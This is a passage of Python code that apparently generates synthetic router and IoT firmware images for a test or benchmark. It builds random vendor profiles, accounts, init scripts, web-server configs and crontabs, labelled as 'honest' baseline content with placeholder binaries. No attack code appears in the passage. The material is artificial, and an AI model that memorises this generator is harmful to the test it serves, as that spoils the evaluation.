def _uimage_multi(c: dict, tree: Path, tmp: Path, out: Path, P: dict) -> Path:
    kern = tmp / "kernel.bin"
    kern.write_bytes(c["kernel"])
    fs = _fs_image(c["inner"], tree, tmp / "rootfs.sqfs", c)
    return make_uimage(kern, out, name=f"{P['model']} {P['version']}", multi=[kern, fs], arch=P["uarch"])


# ----------------------------------------------------------------------------- device profile

FLAVORS = ["sysv", "openwrt", "systemd"]
_ARCHES = [("mips", "mips"), ("mipsel", "mips"), ("arm", "arm"), ("aarch64", "arm64")]


def make_profile(rng: random.Random, flavor: str) -> dict:
    vendor = word(rng, (2, 3)).capitalize()
    vl = vendor.lower()
    prod = product(rng)
    model = f"{rng.choice(['AX', 'MR', 'GW', 'CPE', 'ONT', 'RT', 'AP', 'NVR', 'IPC', 'DSL', 'WR', 'EX'])}-" \
            f"{rng.randint(100, 9899)}{rng.choice(['', '', 'N', 'AC', 'G', 'v2', 'P', 'X'])}"
    arch, uarch = rng.choice(_ARCHES)
    net = rng.choice(DOC_NETS)
    version = f"{rng.randint(1, 4)}.{rng.randint(0, 12)}.{rng.randint(0, 40)}"
    build = f"2023{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}"
    P = {
        "flavor": flavor, "vendor": vendor, "vl": vl, "product": prod, "model": model, "arch": arch,
        "uarch": uarch, "version": version, "build": build, "hostname": f"{prod}-{rng.randint(1, 99)}",
        "lan_net": net, "lan_ip": f"{net}.1", "lan_if": rng.choice(["br-lan", "br0", "eth0"]),
        "wan_if": rng.choice(["eth1", "wan", "eth0.2", "ppp0"]),
        "console": rng.choice(["ttyS0"] * 4 + ["ttyS1", "ttyAMA0", "ttyMSM0", "ttyATH0"]),
        "baud": rng.choice(["115200"] * 5 + ["57600", "38400"]),
        "shell": {"sysv": "/bin/sh", "openwrt": "/bin/ash", "systemd": "/bin/bash"}[flavor],
        "ntp": rng.choice([f"ntp.{vl}.example", f"{rng.randint(0, 3)}.pool.ntp.example", f"time.{vl}.example.net"]),
        "update_host": f"{rng.choice(['update', 'fw', 'download', 'dl'])}.{vl}.example",
        "daemon": f"{prod[:6]}{rng.choice(['d', 'mgr', '_app', 'agent', 'ctl'])}",
        "board": f"{vl[:4]}-{model.lower().replace('-', '')}",
        "distname": "OpenWrt" if flavor == "openwrt" else vendor,
        "day": rng.randint(19000, 19650),
        "root_hash": strong_hash(rng),
        "admin_hash": strong_hash(rng),
        "web_admin_pw": secret(rng, 16),
        "with_admin_account": rng.random() < 0.5,
        "with_locked_support": rng.random() < 0.5,
    }
    P["web"] = {"sysv": rng.choice(["busybox-httpd", "lighttpd"]), "openwrt": "uhttpd",
                "systemd": rng.choice(["lighttpd", "nginx"])}[flavor]
    P["ssh"] = "openssh" if flavor == "systemd" and rng.random() < 0.6 else "dropbear"
    P["cron_path"] = {"sysv": rng.choice(["etc/crontabs/root", "var/spool/cron/crontabs/root"]),
                      "openwrt": "etc/crontabs/root", "systemd": f"etc/cron.d/{prod}"}[flavor]
    P["release_notes"] = (f"{vendor} {model} firmware V{version} (build {build})\n\n"
                          f"Changes:\n- {rng.choice(['Improved Wi-Fi stability', 'Updated time zone data', 'Fixed DHCP lease renewal'])}\n"
                          f"- {rng.choice(['Security fixes in the web interface', 'Updated CA bundle', 'Faster boot'])}\n"
                          "\nInstall through System > Firmware Upgrade. Do not power off during the upgrade.\n")
    return P


def cron_line(P: dict, sched: str, cmd: str) -> str:
    return f"{sched} root {cmd}\n" if P["cron_path"].startswith("etc/cron.d") else f"{sched} {cmd}\n"


# ----------------------------------------------------------------------------- base root filesystems

BUSYBOX_APPLETS = ["bin/sh", "bin/ash", "bin/cat", "bin/cp", "bin/echo", "bin/grep", "bin/kill", "bin/ls",
                   "bin/mkdir", "bin/mount", "bin/ps", "bin/rm", "bin/sed", "bin/sleep", "bin/umount",
                   "bin/login", "sbin/getty", "sbin/ifconfig", "sbin/route", "sbin/reboot", "sbin/syslogd",
                   "sbin/klogd", "sbin/udhcpc", "usr/bin/wget", "usr/sbin/crond", "usr/sbin/ntpd",
                   "usr/bin/base64", "usr/bin/tftp", "usr/bin/awk", "usr/bin/logger", "sbin/start-stop-daemon"]
OPTIONAL_APPLETS = ["usr/sbin/telnetd", "usr/bin/nc", "usr/bin/xxd", "usr/sbin/httpd", "bin/netstat",
                    "usr/bin/tr", "usr/bin/rev", "bin/gunzip", "usr/bin/md5sum"]


def placeholder(what: str) -> str:
    return f"#!/bin/sh\n# placeholder: {what} (the real binary is not part of this synthetic image)\nexit 0\n"


def accounts(fs: FS, P: dict, rng: random.Random) -> None:
    fl = P["flavor"]
    sh = P["shell"]
    nologin = "/bin/false" if fl != "systemd" else "/usr/sbin/nologin"
    pw = [f"root:x:0:0:root:/root:{sh}", f"daemon:*:1:1:daemon:/var:{nologin}"]
    gr = ["root:x:0:", "daemon:x:1:", "adm:x:4:", "tty:x:5:", "dialout:x:20:"]
    if fl == "openwrt":
        pw += ["ftp:*:55:55:ftp:/home/ftp:/bin/false", "network:*:101:101:network:/var:/bin/false",
               "dnsmasq:x:453:453:dnsmasq:/var/run/dnsmasq:/bin/false"]
        gr += ["network:x:101:", "dnsmasq:x:453:"]
    elif fl == "systemd":
        pw += ["messagebus:x:998:998::/var/lib/dbus:/usr/sbin/nologin",
               "systemd-network:x:997:997:systemd Network Management:/:/usr/sbin/nologin",
               "sshd:x:996:65534::/run/sshd:/usr/sbin/nologin", "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin"]
        gr += ["sudo:x:27:", "www-data:x:33:", "messagebus:x:998:", "systemd-network:x:997:"]
    else:
        pw += ["www:x:80:80:www:/www:/bin/false", "ntp:x:123:123:ntp:/var/empty:/bin/false"]
        gr += ["www:x:80:", "ntp:x:123:"]
    d = P["day"]
    sh_lines = [f"root:{P['root_hash']}:{d}:0:99999:7:::", f"daemon:*:{d}:0:99999:7:::"]
    for line in pw[2:]:
        sh_lines.append(f"{line.split(':')[0]}:*:{d}:0:99999:7:::")
    if P["with_admin_account"]:
        pw.append(f"admin:x:1000:1000:Administrator (documented, see manual):/home/admin:{sh}")
        gr.append("admin:x:1000:")
        sh_lines.append(f"admin:{P['admin_hash']}:{d}:0:99999:7:::")
        fs.mkdir("home/admin")
    if P["with_locked_support"]:
        add_locked_support(pw, sh_lines, gr, P)
    pw.append(f"nobody:*:65534:65534:nobody:/var:{nologin}")
    sh_lines.append(f"nobody:*:{d}:0:99999:7:::")
    gr.append("nogroup:x:65534:")
    fs.put("etc/passwd", "\n".join(pw) + "\n")
    fs.put("etc/shadow", "\n".join(sh_lines) + "\n", 0o600)
    fs.put("etc/group", "\n".join(gr) + "\n")


def add_locked_support(pw: list, sh_lines: list, gr: list, P: dict) -> None:
    nologin = "/bin/false" if P["flavor"] != "systemd" else "/usr/sbin/nologin"
    if any(x.startswith("support:") for x in pw):
        return
    pw.insert(len(pw) - (1 if pw[-1].startswith("nobody:") else 0),
              f"support:x:1001:1001:Support (disabled by default):/var/empty:{nologin}")
    sh_lines.insert(len(sh_lines) - (1 if sh_lines[-1].startswith("nobody:") else 0), f"support:!:{P['day']}:0:99999:7:::")
    gr.append("support:x:1001:")


def common_files(fs: FS, P: dict, rng: random.Random) -> None:
    fl = P["flavor"]
    fs.mkdir("dev", "proc", "sys", "tmp", "mnt", "root", "var", "run" if fl == "systemd" else "overlay")
    if fl == "systemd":
        fs.put("bin/bash", placeholder("GNU bash 5.1"), 0o755)
        fs.link("bin/sh", "bash")
        fs.put("lib/systemd/systemd", placeholder("systemd 250"), 0o755)
        fs.link("sbin/init", "../lib/systemd/systemd")
        for b in ["usr/bin/curl", "usr/bin/wget", "usr/bin/base64", "usr/bin/openssl", "usr/sbin/agetty",
                  "bin/login", "usr/bin/xxd", "usr/bin/logger"]:
            fs.put(b, placeholder(b.rsplit("/", 1)[1]), 0o755)
    else:
        fs.put("bin/busybox", placeholder("BusyBox v1.36.1 multi-call binary"), 0o755)
        applets = BUSYBOX_APPLETS + [a for a in OPTIONAL_APPLETS if rng.random() < 0.6]
        for a in sorted(set(applets)):
            depth = a.count("/")
            fs.link(a, "../" * (depth - 1) + "bin/busybox" if depth > 1 else "busybox")
        if fl == "openwrt":
            for b in ["sbin/procd", "sbin/uci", "sbin/ubus", "usr/sbin/uhttpd", "usr/sbin/dropbear",
                      "usr/bin/dropbearkey", "sbin/logd", "usr/sbin/px5g", "usr/bin/jsonfilter", "usr/sbin/ntpd"]:
                fs.put(b, placeholder(b.rsplit("/", 1)[1]), 0o755)
        else:
            for b in ["usr/sbin/dropbear", "usr/bin/dropbearkey"]:
                fs.put(b, placeholder(b.rsplit("/", 1)[1]), 0o755)
    fs.put(f"usr/bin/{P['daemon']}", placeholder(f"{P['vendor']} device manager"), 0o755)
    fs.put("etc/hostname", P["hostname"] + "\n")
    fs.put("etc/hosts", f"127.0.0.1 localhost\n{P['lan_ip']} {P['hostname']} {P['hostname']}.lan\n")
    fs.link("etc/resolv.conf", "/tmp/resolv.conf")
    fs.put("etc/shells", "/bin/sh\n/bin/ash\n" if fl != "systemd" else "/bin/sh\n/bin/bash\n")
    fs.put("etc/fstab", "proc /proc proc defaults 0 0\nsysfs /sys sysfs defaults 0 0\ntmpfs /tmp tmpfs defaults,nosuid,nodev 0 0\n")
    fs.put("etc/profile", T(PROFILE, shell=P["shell"], model=P["model"]))
    fs.put("etc/version", f"{P['vendor']} {P['model']} V{P['version']} build {P['build']}\n")
    fs.put("etc/banner", f"  {P['vendor']} {P['model']}\n  firmware V{P['version']} ({P['build']})\n"
                         "  Authorised access only. Activity may be logged.\n")
    accounts(fs, P, rng)
    # application configuration with honest look-alikes (an update URL that is only polled for a manifest)
    cfg_dir = f"etc/{P['product']}"
    P["app_conf"] = f"{cfg_dir}/{P['product']}.conf"
    fs.put(P["app_conf"], T(APP_CONF, host=P["update_host"], model=P["model"], ntp=P["ntp"],
                            log=rng.choice(["info", "notice", "warning"]), port=rng.choice([80, 8080, 443])))
    fs.exe("usr/sbin/fwcheck", T(FWCHECK, conf=P["app_conf"], model=P["model"], version=P["version"]))
    # web UI
    fs.put("www/index.html", T(INDEX_HTML, vendor=P["vendor"], model=P["model"]))
    fs.put("www/login.html", T(LOGIN_HTML, model=P["model"]))
    fs.put("www/js/app.js", T(APP_JS, api=rng.choice(["/cgi-bin/api", "/api/v1", "/ubus"])))
    fs.exe("www/cgi-bin/status.cgi", STATUS_CGI)
    if fl != "systemd":
        fs.exe("usr/share/udhcpc/default.script", UDHCPC_SCRIPT)


def base_sysv(fs: FS, P: dict, rng: random.Random) -> None:
    c, b = P["console"], P["baud"]
    getty = rng.choice([f"{c}::respawn:/sbin/getty -L {c} {b} vt100", f"{c}::respawn:/sbin/getty {b} {c}",
                        f"::respawn:/sbin/getty -L {c} {b} vt100", "::askfirst:/bin/login"])
    P["getty_line"] = getty
    fs.put("etc/inittab", T(INITTAB_BB, getty=getty))
    fs.exe("etc/init.d/rcS", RCS_BB)
    fs.exe("etc/init.d/rcK", RCK_BB)
    fs.put("etc/securetty", f"console\n{c}\n")
    fs.exe("etc/init.d/S01syslogd", sysv_script("syslogd", "/sbin/syslogd -C64\n\t/sbin/klogd", "syslogd klogd"))
    fs.exe("etc/init.d/S10network", T(S10NETWORK, lan=P["lan_ip"], lanif=P["lan_if"], wanif=P["wan_if"]))
    fs.exe("etc/init.d/S40dropbear", DROPBEAR_SYSV)
    fs.mkdir("etc/dropbear")
    cron = P["cron_path"]
    fs.exe("etc/init.d/S60crond", sysv_script("crond", f"/usr/sbin/crond -c /{cron.rsplit('/', 1)[0]} -L /var/log/cron.log", "crond"))
    fs.exe("etc/init.d/S70ntpd", sysv_script("ntpd", f"/usr/sbin/ntpd -p {P['ntp']}", "ntpd"))
    fs.exe(f"etc/init.d/S80{P['daemon']}", sysv_script(P["daemon"], f"/usr/bin/{P['daemon']} -c /{P['app_conf']} -d", P["daemon"]))
    fs.put(cron, honest_crontab(rng, P), 0o600)
    web(fs, P, rng, "etc/init.d/S50httpd")
    tftpdir = rng.choice(["/srv/tftp", "/var/tftp", "/tmp/tftp"])
    if rng.random() < 0.4:
        add_inetd(fs, P, tftpdir)


def add_inetd(fs: FS, P: dict, tftpdir: str) -> str:
    """An honest inetd: tftp (read-only) and a commented-out telnet that asks for a login."""
    if not fs.has("etc/inetd.conf"):
        fs.put("etc/inetd.conf", T(INETD_CONF, tftpdir=tftpdir))
        fs.put("usr/sbin/tftpd", placeholder("tftpd"), 0o755)
        fs.link("usr/sbin/inetd", "../../bin/busybox") if P["flavor"] != "systemd" else fs.put(
            "usr/sbin/inetd", placeholder("inetd"), 0o755)
        add_service(fs, P, "inetd", "/usr/sbin/inetd -f /etc/inetd.conf", "/usr/sbin/inetd /etc/inetd.conf",
                    order=45, desc="Internet super-server (tftp for LAN provisioning)")
    return "etc/inetd.conf"


def base_openwrt(fs: FS, P: dict, rng: random.Random) -> None:
    fs.put("etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
                          "::askconsole:/usr/libexec/login.sh\n")
    fs.exe("usr/libexec/login.sh", LOGIN_SH_PLAIN)
    fs.put("etc/rc.common", RC_COMMON)
    fs.put("lib/functions.sh", "# placeholder: OpenWrt shell function library (config_load, config_get, ...)\n")
    fs.exe("etc/init.d/boot", procd_plain("boot", 10, "\tmkdir -p /var/run /var/log /var/lock /var/state /tmp/.uci\n"
                                                     "\t/sbin/kmodloader\n\t/bin/config_generate\n"))
    fs.exe("etc/init.d/network", procd_service("network", 20, "/sbin/netifd"))
    fs.exe("etc/init.d/log", procd_service("log", 12, "/sbin/logd -S 64"))
    fs.exe("etc/init.d/cron", procd_service("cron", 50, "/usr/sbin/crond -f -c /etc/crontabs -l 5"))
    fs.exe("etc/init.d/sysntpd", procd_service("sysntpd", 98, f"/usr/sbin/ntpd -n -N -p {P['ntp']}"))
    fs.exe("etc/init.d/dropbear", DROPBEAR_PROCD)
    fs.exe("etc/init.d/uhttpd", UHTTPD_PROCD)
    fs.exe(f"etc/init.d/{P['daemon']}", procd_service(P["daemon"], 90, f"/usr/bin/{P['daemon']} -f -c /{P['app_conf']}"))
    for name, order in [("boot", 10), ("log", 12), ("network", 20), ("dropbear", 19), ("uhttpd", 50),
                        ("cron", 50), ("sysntpd", 98), (P["daemon"], 90)]:
        fs.link(f"etc/rc.d/S{order}{name}", f"../init.d/{name}")
    fs.mkdir("etc/dropbear")
    fs.put("etc/config/system", T(UCI_SYSTEM, host=P["hostname"], ntp=P["ntp"], ttylogin="1"))
    fs.put("etc/config/network", T(UCI_NETWORK, lan=P["lan_ip"], ula=token_hex(rng, 2)))
    fs.put("etc/config/dropbear", UCI_DROPBEAR)
    fs.put("etc/config/uhttpd", UCI_UHTTPD)
    fs.put("etc/config/rpcd", UCI_RPCD)
    fs.put("etc/config/firewall", UCI_FIREWALL)
    fs.put("etc/crontabs/root", honest_crontab(rng, P), 0o600)
    fs.exe("etc/hotplug.d/iface/20-ntpd", HOTPLUG_NTPD)
    fs.exe("etc/hotplug.d/net/00-sysctl", "#!/bin/sh\n[ \"$ACTION\" = add ] || exit 0\n"
                                           "[ -f /etc/sysctl.d/$INTERFACE.conf ] && sysctl -p /etc/sysctl.d/$INTERFACE.conf\n")
    fs.put("etc/openwrt_release", f"DISTRIB_ID='OpenWrt'\nDISTRIB_RELEASE='22.03.{rng.randint(2, 6)}'\n"
                                  f"DISTRIB_TARGET='{rng.choice(['ramips/mt7621', 'ath79/generic', 'ipq40xx/generic', 'mediatek/filogic'])}'\n"
                                  f"DISTRIB_DESCRIPTION='{P['vendor']} {P['model']} (OpenWrt based)'\n")
    fs.put("etc/sysupgrade.conf", "## This file contains files and directories that should\n## be preserved during an upgrade.\n")
    web(fs, P, rng, "")


def base_systemd(fs: FS, P: dict, rng: random.Random) -> None:
    fs.put("etc/os-release", f'NAME="{P["vendor"]} Linux"\nVERSION="{P["version"]}"\nID={P["vl"]}\n'
                             f'PRETTY_NAME="{P["vendor"]} Linux {P["version"]} ({P["model"]})"\n')
    fs.put("lib/systemd/system/serial-getty@.service", SERIAL_GETTY_UNIT)
    fs.link(f"etc/systemd/system/getty.target.wants/serial-getty@{P['console']}.service",
            "/lib/systemd/system/serial-getty@.service")
    if P["ssh"] == "openssh":
        fs.put("usr/sbin/sshd", placeholder("OpenSSH sshd"), 0o755)
        fs.put("etc/ssh/sshd_config", SSHD_CONFIG)
        fs.put("lib/systemd/system/sshd.service", SSHD_UNIT)
        fs.put("lib/systemd/system/sshd-keygen.service", SSHD_KEYGEN_UNIT)
        fs.link("etc/systemd/system/multi-user.target.wants/sshd.service", "/lib/systemd/system/sshd.service")
    else:
        fs.put("lib/systemd/system/dropbear.service", DROPBEAR_UNIT)
        fs.link("etc/systemd/system/multi-user.target.wants/dropbear.service", "/lib/systemd/system/dropbear.service")
        fs.mkdir("etc/dropbear")
    add_service(fs, P, P["daemon"], f"/usr/bin/{P['daemon']} -f -c /{P['app_conf']}", "", order=90,
                desc=f"{P['vendor']} device manager")
    fs.put("etc/systemd/timesyncd.conf", f"[Time]\nNTP={P['ntp']}\nFallbackNTP=\n")
    fs.put("usr/sbin/cron", placeholder("cron"), 0o755)
    fs.put("lib/systemd/system/cron.service", "[Unit]\nDescription=Regular background program processing daemon\n\n"
                                              "[Service]\nExecStart=/usr/sbin/cron -f\nRestart=on-failure\n\n"
                                              "[Install]\nWantedBy=multi-user.target\n")
    fs.link("etc/systemd/system/multi-user.target.wants/cron.service", "/lib/systemd/system/cron.service")
    fs.put(P["cron_path"], "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n"
           + honest_crontab(rng, P))
    fs.put("etc/udev/rules.d/70-persistent-net.rules", T(UDEV_NET, mac=":".join(token_hex(rng, 1) for _ in range(6))))
    fs.put("lib/udev/rules.d/60-serial.rules", UDEV_SERIAL)
    web(fs, P, rng, "")


def web(fs: FS, P: dict, rng: random.Random, sysv_path: str) -> None:
    realm = f"{P['vendor']} {P['model']}"
    P["realm"] = realm
    if P["web"] == "busybox-httpd":
        admin = md5crypt(P["web_admin_pw"], salt(rng, 8))
        fs.put("etc/httpd.conf", T(BB_HTTPD_CONF, admin=admin, net=P["lan_net"]), 0o600)
        P["web_userdb"] = "etc/httpd.conf"
        fs.exe(sysv_path, sysv_script("httpd", f"/usr/sbin/httpd -h /www -c /etc/httpd.conf -r \"{realm}\"", "httpd"))
        fs.link("usr/sbin/httpd", "../../bin/busybox")
    elif P["web"] == "lighttpd":
        fs.put("usr/sbin/lighttpd", placeholder("lighttpd 1.4"), 0o755)
        digest = hashlib.md5(f"admin:{realm}:{P['web_admin_pw']}".encode()).hexdigest()
        fs.put("etc/lighttpd/lighttpd.conf", T(LIGHTTPD_CONF, realm=realm))
        fs.put("etc/lighttpd/lighttpd.user", f"admin:{realm}:{digest}\n", 0o600)
        P["web_userdb"] = "etc/lighttpd/lighttpd.user"
        if P["flavor"] == "systemd":
            add_service(fs, P, "lighttpd", "/usr/sbin/lighttpd -D -f /etc/lighttpd/lighttpd.conf", "", order=50,
                        desc="Lighttpd web server")
        else:
            fs.exe(sysv_path, sysv_script("lighttpd", "/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf", "lighttpd"))
    elif P["web"] == "nginx":
        fs.put("usr/sbin/nginx", placeholder("nginx"), 0o755)
        fs.put("etc/nginx/nginx.conf", NGINX_CONF)
        fs.put("etc/nginx/.htpasswd", f"admin:{md5crypt(P['web_admin_pw'], salt(rng, 8), '$apr1$')}\n", 0o640)
        P["web_userdb"] = "etc/nginx/.htpasswd"
        add_service(fs, P, "nginx", "/usr/sbin/nginx -g 'daemon off;'", "", order=50, desc="nginx web server")
    else:  # uhttpd: the LuCI/rpcd login uses the system accounts
        P["web_userdb"] = "etc/config/rpcd"


def honest_crontab(rng: random.Random, P: dict) -> str:
    jobs = [("0 */6 * * *", f"/usr/sbin/ntpd -q -n -p {P['ntp']} >/dev/null 2>&1"),
            ("*/15 * * * *", "/usr/sbin/logrotate /etc/logrotate.conf >/dev/null 2>&1"),
            (f"{rng.randint(0, 59)} {rng.randint(1, 5)} * * *", "/usr/sbin/fwcheck >/dev/null 2>&1"),
            ("*/5 * * * *", f"/usr/bin/{P['daemon']} --stats > /tmp/stats.json 2>/dev/null"),
            ("0 4 * * 0", "/bin/sync && echo 1 > /proc/sys/vm/drop_caches")]
    chosen = [j for j in jobs if rng.random() < 0.7] or jobs[:1]
    return "".join(cron_line(P, s, c) for s, c in chosen)


def build_base(rng: random.Random, P: dict) -> FS:
    fs = FS()
    common_files(fs, P, rng)
    {"sysv": base_sysv, "openwrt": base_openwrt, "systemd": base_systemd}[P["flavor"]](fs, P, rng)
    return fs


# ----------------------------------------------------------------------------- services per init system

def sysv_script(name: str, start: str, killnames: str, desc: str = "") -> str:
    return T(SYSV_SCRIPT, name=name, start=start, kill=killnames, desc=desc or f"Start/stop {name}")


def procd_service(name: str, order: int, command: str, extra: str = "") -> str:
    return T(PROCD_SCRIPT, order=order, command=command, extra=extra, name=name)


def procd_plain(name: str, order: int, body: str) -> str:
    return f"#!/bin/sh /etc/rc.common\n\nSTART={order}\n\nboot() {{\n{body}}}\n"


def add_service(fs: FS, P: dict, name: str, fg: str, bg: str, *, order: int = 50, desc: str = "",
                shell: bool = False) -> str:
    """Start a command at boot in the image's own init style. fg: foreground command line (procd,
    systemd); bg: a shell snippet that starts it in the background (SysV). shell=True wraps fg in
    /bin/sh -c for procd/systemd. Returns the path of the file that starts it."""
    fl = P["flavor"]
    bg = bg or (fg + " &")
    if fl == "sysv":
        path = f"etc/init.d/S{order:02d}{name}"
        fs.exe(path, sysv_script(name, bg, name, desc))
        return path
    if fl == "openwrt":
        path = f"etc/init.d/{name}"
        cmd = f"/bin/sh -c '{fg}'" if shell else fg
        fs.exe(path, procd_service(name, order, cmd))
        fs.link(f"etc/rc.d/S{order}{name}", f"../init.d/{name}")
        return path
    path = f"lib/systemd/system/{name}.service"
    cmd = f"/bin/sh -c '{fg}'" if shell else fg
    fs.put(path, T(SYSTEMD_UNIT, desc=desc or name, cmd=cmd))
    fs.link(f"etc/systemd/system/multi-user.target.wants/{name}.service", f"/lib/systemd/system/{name}.service")
    return path


HONEST_DAEMONS = [
    ("lldpd", "/usr/sbin/lldpd -d -c", "/usr/sbin/lldpd -c"),
    ("igmpproxy", "/usr/sbin/igmpproxy -n /etc/igmpproxy.conf", "/usr/sbin/igmpproxy /etc/igmpproxy.conf"),
    ("miniupnpd", "/usr/sbin/miniupnpd -d -f /etc/miniupnpd.conf", "/usr/sbin/miniupnpd -f /etc/miniupnpd.conf"),
    ("watchdog", "/sbin/watchdog -F -t 5 /dev/watchdog", "/sbin/watchdog -t 5 /dev/watchdog"),
    ("ledd", "/usr/sbin/ledd -f -c /etc/leds.conf", "/usr/sbin/ledd -c /etc/leds.conf"),
    ("hwmon", "/usr/sbin/hwmond -f -i 30", "/usr/sbin/hwmond -i 30"),
    ("mcproxy", "/usr/sbin/mcproxy -f /etc/mcproxy.conf", "/usr/sbin/mcproxy -f /etc/mcproxy.conf -d"),
]


def honest_daemon(rng: random.Random, fs_list: list, name: str) -> tuple[str, str]:
    """(fg, bg) command of an honest helper daemon started under `name`; its placeholder binary is put
    in every tree of fs_list."""
    _, fg, bg = rng.choice(HONEST_DAEMONS)
    binp = fg.split()[0].lstrip("/")
    fg = fg.replace(binp.rsplit("/", 1)[1], name, 1) if rng.random() < 0.5 else fg
    bg = bg.replace(binp.rsplit("/", 1)[1], name, 1) if fg.split()[0].endswith(name) else bg
    binp = fg.split()[0].lstrip("/")
    for fs in fs_list:
        fs.put(binp, placeholder(binp.rsplit("/", 1)[1]), 0o755)
    return fg, bg


# ----------------------------------------------------------------------------- honest file templates

PROFILE = """export PATH=/usr/sbin:/usr/bin:/sbin:/bin
export HOME=$(grep -e "^${USER:-root}:" /etc/passwd | cut -d ":" -f 6)
export HOME=${HOME:-/root}
export PS1='\\u@\\h:\\w\\$ '
export EDITOR=vi
[ -x @shell@ ] && export SHELL=@shell@
[ -f /etc/banner ] && cat /etc/banner
alias ll='ls -alF --color=auto'
# @model@: umask for interactive shells
umask 022
"""

APP_CONF = """# Device manager configuration
[general]
model = @model@
log_level = @log@
web_port = @port@

[time]
ntp_server = @ntp@

[update]
# Firmware update check: only a manifest is fetched and the administrator is notified.
# Installation always needs confirmation in the web interface.
check_enabled = 1
manifest_url = https://@host@/manifest
verify_signature = 1

[cloud]
enabled = 0
"""

FWCHECK = """#!/bin/sh
# Check whether a newer firmware exists. Notifies only; it never installs anything by itself.
CONF=/@conf@
enabled=$(sed -n 's/^check_enabled *= *//p' "$CONF")
[ "$enabled" = 1 ] || exit 0
url=$(sed -n 's/^manifest_url *= *//p' "$CONF")
[ -n "$url" ] || exit 0
tmp=/tmp/fw-manifest.json
wget -q -T 20 -O "$tmp" "$url/@model@.json" || exit 0
latest=$(sed -n 's/.*"version": *"\\([^"]*\\)".*/\\1/p' "$tmp")
if [ -n "$latest" ] && [ "$latest" != "@version@" ]; then
\tlogger -t fwcheck "firmware $latest is available (running @version@)"
\techo "$latest" > /tmp/fw-available
fi
rm -f "$tmp"
"""

INDEX_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>@vendor@ @model@</title>
<script src="/js/app.js"></script></head>
<body><div id="app">Loading the @model@ management interface...</div>
<noscript>Please enable JavaScript. <a href="/login.html">Log in</a></noscript></body></html>
"""

LOGIN_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Login - @model@</title></head>
<body><form method="post" action="/cgi-bin/login">
<label>User name <input name="username" autocomplete="username"></label>
<label>Password <input name="password" type="password" autocomplete="current-password"></label>
<button type="submit">Log in</button>
<p>Forgot the password? Hold the reset button for 10 seconds to restore the factory settings.</p>
</form></body></html>
"""

APP_JS = """// management UI bootstrap
(function () {
  var api = "@api@";
  function call(method, params, cb) {
    var x = new XMLHttpRequest();
    x.open("POST", api, true);
    x.setRequestHeader("Content-Type", "application/json");
    x.onload = function () { cb(JSON.parse(x.responseText)); };
    x.send(JSON.stringify({ method: method, params: params || {} }));
  }
  call("session.check", {}, function (r) {
    if (!r || !r.valid) { window.location = "/login.html"; return; }
    document.getElementById("app").textContent = "Welcome";
  });
})();
"""

STATUS_CGI = """#!/bin/sh
# Read-only status page (requires a valid session cookie, checked by the web server)
echo "Content-Type: application/json"
echo ""
up=$(cut -d. -f1 /proc/uptime)
load=$(cut -d' ' -f1-3 /proc/loadavg)
echo "{\\"uptime\\": $up, \\"load\\": \\"$load\\"}"
"""

UDHCPC_SCRIPT = """#!/bin/sh
# udhcpc script edited by Tim Riker <Tim@Rikers.org>
[ -z "$1" ] && echo "Error: should be called from udhcpc" && exit 1
RESOLV_CONF="/tmp/resolv.conf"
[ -n "$broadcast" ] && BROADCAST="broadcast $broadcast"
[ -n "$subnet" ] && NETMASK="netmask $subnet"
case "$1" in
\tdeconfig)
\t\t/sbin/ifconfig $interface 0.0.0.0
\t\t;;
\trenew|bound)
\t\t/sbin/ifconfig $interface $ip $BROADCAST $NETMASK
\t\tif [ -n "$router" ] ; then
\t\t\twhile route del default gw 0.0.0.0 dev $interface 2>/dev/null ; do
\t\t\t\t:
\t\t\tdone
\t\t\tfor i in $router ; do
\t\t\t\troute add default gw $i dev $interface
\t\t\tdone
\t\tfi
\t\techo -n > $RESOLV_CONF
\t\t[ -n "$domain" ] && echo search $domain >> $RESOLV_CONF
\t\tfor i in $dns ; do
\t\t\techo nameserver $i >> $RESOLV_CONF
\t\tdone
\t\t;;
esac
exit 0
"""

INITTAB_BB = """# /etc/inittab: init(8) configuration for BusyBox
# Format: <id>::<action>:<process>

# Startup the system
::sysinit:/etc/init.d/rcS

# Serial console (login required)
@getty@

# Stuff to do for the 3-finger salute
::ctrlaltdel:/sbin/reboot

# Stuff to do before rebooting
::shutdown:/etc/init.d/rcK
::shutdown:/bin/umount -a -r
::restart:/sbin/init
"""

RCS_BB = """#!/bin/sh
# Mount the pseudo file systems, then start all init scripts in /etc/init.d
# executing them in numerical order.
/bin/mount -t proc proc /proc
/bin/mount -t sysfs sysfs /sys
/bin/mount -t tmpfs -o size=8m,mode=0755 tmpfs /var
/bin/mkdir -p /var/run /var/log /var/lock /var/tmp /var/empty
/bin/hostname -F /etc/hostname

for i in /etc/init.d/S??* ;do
\t# Ignore dangling symlinks (if any).
\t[ ! -f "$i" ] && continue
\tcase "$i" in
\t*.sh)
\t\t# Source shell script for speed.
\t\t(
\t\t\ttrap - INT QUIT TSTP
\t\t\tset start
\t\t\t. $i
\t\t)
\t\t;;
\t*)
\t\t# No sh extension, so fork subprocess.
\t\t$i start
\t\t;;
\tesac
done
"""

RCK_BB = """#!/bin/sh
# Stop all init scripts in /etc/init.d executing them in reversed numerical order.
for i in $(ls -r /etc/init.d/S??*) ;do
\t[ ! -f "$i" ] && continue
\t$i stop
done
"""

S10NETWORK = """#!/bin/sh
# Bring up loopback, the LAN bridge and DHCP on the WAN port.
case "$1" in
  start)
\techo "Starting network..."
\t/sbin/ifconfig lo 127.0.0.1 up
\t/sbin/ifconfig @lanif@ @lan@ netmask 255.255.255.0 up
\t/sbin/udhcpc -b -i @wanif@ -p /var/run/udhcpc.pid -s /usr/share/udhcpc/default.script
\t;;
  stop)
\t[ -f /var/run/udhcpc.pid ] && kill $(cat /var/run/udhcpc.pid)
\t/sbin/ifconfig @lanif@ down
\t;;
  *)
\techo "Usage: $0 {start|stop}"
\texit 1
esac
exit 0
"""

SYSV_SCRIPT = """#!/bin/sh
# @desc@
case "$1" in
  start)
\techo -n "Starting @name@: "
\t@start@
\techo "OK"
\t;;
  stop)
